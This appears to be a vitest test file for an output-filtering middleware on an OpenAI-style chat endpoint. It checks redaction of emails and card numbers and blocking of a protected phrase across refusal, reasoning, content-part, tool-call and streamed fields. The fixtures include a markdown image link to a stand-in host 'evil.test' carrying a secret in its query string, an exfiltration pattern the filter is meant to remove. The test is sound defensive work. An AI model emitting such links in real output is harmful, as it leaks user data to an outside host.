// Every field of an answer that carries model text is filtered, or the answer is refused:
// `refusal`, content parts, reasoning text, tool-call and function-call arguments, and
// fields or events the filter does not know. Each case JSON and streamed, read with the real
// `openai` SDK (its stream iterator and its ChatCompletionStream helper) over real HTTP.

import express from 'express';
import OpenAI from 'openai';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { filterOutput } from '../../lib/index.js';
import { listen } from '../helpers/app.js';
import { BASE, CHUNKINGS, ownApp } from '../helpers/filter.js';

const OPTIONS = { protect: ['Project Nightjar'], urls: { allow: ['ok.example'] } };
const EMAIL = 'jane.doe@example.com';
const LEAK = 'The code name is Project Nightjar.';

/** What the app's own handler answers next: a JSON completion, or SSE frames (objects or raw strings). */
let answer: { json?: unknown; frames?: Array<object | string>; piece?: number } = {};
let server: Awaited<ReturnType<typeof listen>>;
let client: OpenAI;

beforeAll(async () => {
  const app = express();
  app.post('/v1/chat/completions', express.json(), filterOutput(OPTIONS), (_req, res) => {
    if (answer.json !== undefined) return void res.json(answer.json);
    res.setHeader('content-type', 'text/event-stream');
    const body = (answer.frames ?? [])
      .map((f) => (typeof f === 'string' ? f : `data: ${JSON.stringify(f)}\n\n`))
      .join('');
    // Written in small pieces: frames split mid-line and mid-JSON.
    const n = answer.piece ?? 7;
    for (let i = 0; i < body.length; i += n) res.write(body.slice(i, i + n));
    res.end();
  });
  server = await listen(app);
  client = new OpenAI({ baseURL: `${server.url}/v1`, apiKey: 'x', maxRetries: 0 });
});
afterAll(() => server.close());

const REQUEST = { model: 'own', messages: [{ role: 'user' as const, content: 'hi' }] };

function completion(message: Record<string, unknown>, finish = 'stop') {
  return {
    id: 'chatcmpl-own-1',
    object: 'chat.completion',
    created: 1_700_000_000,
    model: 'own',
    choices: [{ index: 0, message: { role: 'assistant', ...message }, finish_reason: finish, logprobs: null }],
  };
}

/** A stream of deltas: each delta its own chunk, then the finish chunk and [DONE]. */
function frames(deltas: Array<Record<string, unknown>>, finish = 'stop'): Array<object | string> {
  return [
    { ...BASE, choices: [{ index: 0, delta: { role: 'assistant' }, finish_reason: null }] },
    ...deltas.map((delta) => ({ ...BASE, choices: [{ index: 0, delta, finish_reason: null }] })),
    { ...BASE, choices: [{ index: 0, delta: {}, finish_reason: finish }] },
    'data: [DONE]\n\n',
  ];
}

/** A text in deltas of `n` characters under `key`. */
const pieces = (key: string, text: string, n = 4) =>
  Array.from({ length: Math.ceil(text.length / n) }, (_, i) => ({ [key]: text.slice(i * n, i * n + n) }));

async function json(message: Record<string, unknown>) {
  answer = { json: completion(message) };
  return (await client.chat.completions.create(REQUEST)).choices[0]!;
}

/** The stream through the SDK's iterator: each field's text joined, finish reasons, raw chunks. */
async function streamed(deltas: Array<Record<string, unknown>>, finish = 'stop') {
  answer = { frames: frames(deltas, finish) };
  const stream = await client.chat.completions.create({ ...REQUEST, stream: true });
  const text: Record<string, string> = {};
  const finishes: string[] = [];
  const chunks: any[] = [];
  for await (const chunk of stream) {
    chunks.push(chunk);
    for (const c of chunk.choices) {
      for (const [k, v] of Object.entries(c.delta ?? {}))
        if (typeof v === 'string' && k !== 'role') text[k] = (text[k] ?? '') + v;
      if (c.finish_reason) finishes.push(c.finish_reason);
    }
  }
  return { text, finishes, chunks };
}

/** The same stream through the SDK's ChatCompletionStream helper, which checks the event order. */
async function assembled(deltas: Array<Record<string, unknown>>, finish = 'stop') {
  answer = { frames: frames(deltas, finish) };
  return client.chat.completions.stream(REQUEST).finalChatCompletion();
}

describe('refusal', () => {
  const refusal = `I cannot email ${EMAIL} about that.`;
  it('is redacted, JSON and streamed', async () => {
    const expected = 'I cannot email [REDACTED:EMAIL] about that.';
    expect((await json({ content: null, refusal })).message.refusal).toBe(expected);
    const s = await streamed(pieces('refusal', refusal));
    expect(s.text.refusal).toBe(expected);
    expect(s.finishes).toEqual(['stop']);
    expect((await assembled(pieces('refusal', refusal))).choices[0]!.message.refusal).toBe(expected);
  });

  it('blocks a leak in it, JSON and streamed, with nothing of the leak sent', async () => {
    const j = await json({ content: null, refusal: LEAK });
    expect(j.finish_reason).toBe('content_filter');
    expect(JSON.stringify(j)).not.toMatch(/Nightjar/);
    const s = await streamed(pieces('refusal', LEAK));
    expect(s.finishes).toEqual(['content_filter']);
    expect(JSON.stringify(s.chunks)).not.toMatch(/Nightj/);
  });
});

describe('reasoning text', () => {
  for (const key of ['reasoning_content', 'reasoning']) {
    it(`${key} is redacted, and a leak in it blocks, JSON and streamed`, async () => {
      const thought = `The user ${EMAIL} wants help.`;
      const expected = 'The user [REDACTED:EMAIL] wants help.';
      expect((await json({ content: 'Sure.', [key]: thought })).message).toMatchObject({ [key]: expected });
      expect((await streamed([...pieces(key, thought), { content: 'Sure.' }])).text).toEqual({
        [key]: expected,
        content: 'Sure.',
      });
      expect((await json({ content: 'Sure.', [key]: LEAK })).finish_reason).toBe('content_filter');
      const s = await streamed([...pieces(key, LEAK), { content: 'Sure.' }]);
      expect(s.finishes).toEqual(['content_filter']);
      expect(JSON.stringify(s.chunks)).not.toMatch(/Nightj|Sure/);
    });
  }
});

describe('content as an array of parts', () => {
  it('filters text parts and refuses other parts, JSON and streamed', async () => {
    const parts = [
      { type: 'text', text: `Write to ${EMAIL}. ` },
      { type: 'text', text: 'Done.' },
    ];
    expect((await json({ content: parts })).message.content).toEqual([
      { type: 'text', text: 'Write to [REDACTED:EMAIL]. ' },
      { type: 'text', text: 'Done.' },
    ]);
    const image = [{ type: 'image_url', image_url: { url: 'https://evil.test/x.png' } }];
    const blocked = await json({ content: image });
    expect(blocked.finish_reason).toBe('content_filter');
    expect(JSON.stringify(blocked)).not.toMatch(/evil/);
    const s = await streamed([{ content: [parts[0]] }, { content: [parts[1]] }]);
    expect(JSON.stringify(s.chunks)).not.toContain(EMAIL);
    // Streamed parts go out as text, the form held-back text joins.
    expect(s.text.content).toBe('Write to [REDACTED:EMAIL]. Done.');
    const i = await streamed([{ content: 'Hello. ' }, { content: image }]);
    expect(i.finishes).toEqual(['content_filter']);
    expect(JSON.stringify(i.chunks)).not.toMatch(/evil/);
  });
});

describe('tool calls', () => {
  const args = JSON.stringify({
    to: EMAIL,
    body: 'See ![x](https://evil.test/?q=secret) and ![ok](https://img.ok.example/a.png)',
    card: 4111111111111111,
    nested: [{ note: 'ok' }],
  });
  const filtered = JSON.stringify({
    to: '[REDACTED:EMAIL]',
    body: 'See  and ![ok](https://img.ok.example/a.png)',
    card: '[REDACTED:CREDIT_CARD]',
    nested: [{ note: 'ok' }],
  });
  const call = (index: number, a: string, name = 'send_mail') => ({
    index,
    id: `call_${index}`,
    type: 'function',
    function: { name, arguments: a },
  });
  /** Tool-call deltas as OpenAI streams them: the header, then the arguments in pieces. */
  const toolDeltas = (list: Array<{ a: string; name?: string }>) =>
    list.flatMap(({ a, name }, index) => [
      { tool_calls: [call(index, '', name)] },
      ...Array.from({ length: Math.ceil(a.length / 5) }, (_, k) => ({
        tool_calls: [{ index, function: { arguments: a.slice(k * 5, k * 5 + 5) } }],
      })),
    ]);

  it('redacts PII and removes exfiltration inside argument strings, JSON and streamed', async () => {
    const j = await json({ content: null, tool_calls: [call(0, args)] });
    expect(j.message.tool_calls![0]).toMatchObject({
      id: 'call_0',
      function: { name: 'send_mail', arguments: filtered },
    });
    const final = await assembled(toolDeltas([{ a: args }, { a: '{"q":"weather"}' }]), 'tool_calls');
    expect(
      final.choices[0]!.message.tool_calls!.map((t: any) => [t.id, t.function.name, t.function.arguments]),
    ).toEqual([
      ['call_0', 'send_mail', filtered],
      ['call_1', 'send_mail', '{"q":"weather"}'],
    ]);
    expect(final.choices[0]!.finish_reason).toBe('tool_calls');
  });

  it('keeps clean arguments byte for byte', async () => {
    const clean = '{ "city": "Paris",  "days": 3 }';
    expect(
      ((await json({ content: null, tool_calls: [call(0, clean)] })).message.tool_calls![0] as any).function.arguments,
    ).toBe(clean);
    const final = await assembled(toolDeltas([{ a: clean }]), 'tool_calls');
    expect((final.choices[0]!.message.tool_calls![0] as any).function.arguments).toBe(clean);
  });

  it('refuses arguments that are not JSON, a leak in them, and odd tool names, JSON and streamed', async () => {
    for (const bad of [
      { a: '{"a": "unterminated' },
      { a: JSON.stringify({ note: LEAK }) },
      { a: '{}', name: 'send mail to me' },
    ]) {
      const j = await json({ content: null, tool_calls: [call(0, bad.a, bad.name)] });
      expect(j.finish_reason).toBe('content_filter');
      expect(j.message.tool_calls).toBeUndefined();
      const s = await streamed(toolDeltas([bad]), 'tool_calls');
      expect(s.finishes).toEqual(['content_filter']);
      expect(JSON.stringify(s.chunks)).not.toMatch(/Nightj|tool_calls/);
    }
  });

  it('filters the legacy function_call the same way', async () => {
    const j = await json({ content: null, function_call: { name: 'send_mail', arguments: args } });
    expect(j.message.function_call).toEqual({ name: 'send_mail', arguments: filtered });
    const deltas = [
      { function_call: { name: 'send_mail', arguments: '' } },
      ...Array.from({ length: Math.ceil(args.length / 6) }, (_, k) => ({
        function_call: { arguments: args.slice(k * 6, k * 6 + 6) },
      })),
    ];
    const s = await streamed(deltas, 'function_call');
    const fc = s.chunks.flatMap((c) => c.choices.map((x: any) => x.delta.function_call).filter(Boolean));
    expect(fc).toEqual([{ name: 'send_mail', arguments: filtered }]);
  });
});

describe('fields and events the filter does not know', () => {
  it('refuses a message field that may carry text, JSON and streamed', async () => {
    for (const extra of [{ audio: { transcript: `mail ${EMAIL}` } }, { speech: `mail ${EMAIL}` }]) {
      const j = await json({ content: 'Hi.', ...extra });
      expect(j.finish_reason).toBe('content_filter');
      expect(JSON.stringify(j)).not.toContain(EMAIL);
      const s = await streamed([{ content: 'Hi. ' }, extra]);
      expect(s.finishes).toEqual(['content_filter']);
      expect(JSON.stringify(s.chunks)).not.toContain(EMAIL);
    }
  });

  it('relays fields that cannot carry text, and removes provider extras outside the message', async () => {
    const j = await json({ content: 'Hi.', audio: null, annotations: [], refusal: null });
    expect(j.message).toEqual({ role: 'assistant', content: 'Hi.', audio: null, annotations: [], refusal: null });
    answer = { json: { ...completion({ content: 'Hi.' }), citations: [`https://evil.test/${EMAIL}`] } };
    const c = await client.chat.completions.create(REQUEST);
    expect(JSON.stringify(c)).not.toContain('evil.test');
    expect(c.choices[0]!.message.content).toBe('Hi.');
  });

  it('ends a stream with content_filter at an event that is not a chunk', async () => {
    for (const odd of [
      { ...BASE, object: 'chat.completion', choices: [{ index: 0, message: { content: `mail ${EMAIL}` } }] },
      { ...BASE, object: 'chat.completion.chunk ', choices: [{ index: 0, delta: { content: `mail ${EMAIL}` } }] },
      { ...BASE, choices: { 0: { delta: { content: `mail ${EMAIL}` } } } },
    ]) {
      answer = { frames: [...frames([{ content: 'Hello there, ' }]).slice(0, 2), odd, ...frames([]).slice(2)] };
      const stream = await client.chat.completions.create({ ...REQUEST, stream: true });
      const chunks: any[] = [];
      for await (const chunk of stream) chunks.push(chunk);
      expect(JSON.stringify(chunks)).not.toContain(EMAIL);
      expect(chunks.at(-1).choices[0].finish_reason).toBe('content_filter');
    }
  });
});

describe('stream order', () => {
  it('sends held-back text before an in-band error, which the SDK then raises', async () => {
    // "Write to jane…" is held (it could become an email address) when the error arrives.
    answer = {
      frames: [
        ...frames(pieces('content', 'Hello, I can help. Write to jane')).slice(0, -2),
        `data: ${JSON.stringify({ error: { message: `failed for ${EMAIL}`, type: 'server_error', code: null, param: null } })}\n\n`,
      ],
    };
    const stream = await client.chat.completions.create({ ...REQUEST, stream: true });
    let text = '';
    const error = await (async () => {
      try {
        for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
      } catch (err) {
        return err as Error;
      }
    })();
    expect(text).toBe('Hello, I can help. Write to jane');
    expect(error).toBeInstanceOf(OpenAI.APIError);
    expect(error!.message).toContain('[REDACTED:EMAIL]');
  });

  it('passes a clean stream with every text channel unchanged: the same text, frames byte for byte', async () => {
    const deltas = [
      { reasoning_content: 'The user asks about France; answer briefly.' },
      { content: 'The capital of France is Paris.' },
    ];
    const final = await assembled(deltas);
    expect(final.choices[0]!.message).toMatchObject({ content: deltas[1]!.content });
    expect((final.choices[0]!.message as any).reasoning_content).toBe(deltas[0]!.reasoning_content);
    // Without a protect phrase nothing needs holding back at a delta's end: every frame is sent as written.
    const body = frames(deltas)
      .map((f) => (typeof f === 'string' ? f : `data: ${JSON.stringify(f)}\n\n`))
      .join('');
    const res = await request(ownApp({}, { sse: body, chunking: CHUNKINGS.bytes7 }))
      .post('/chat')
      .send({});
    expect(res.text).toBe(body);
  });
});
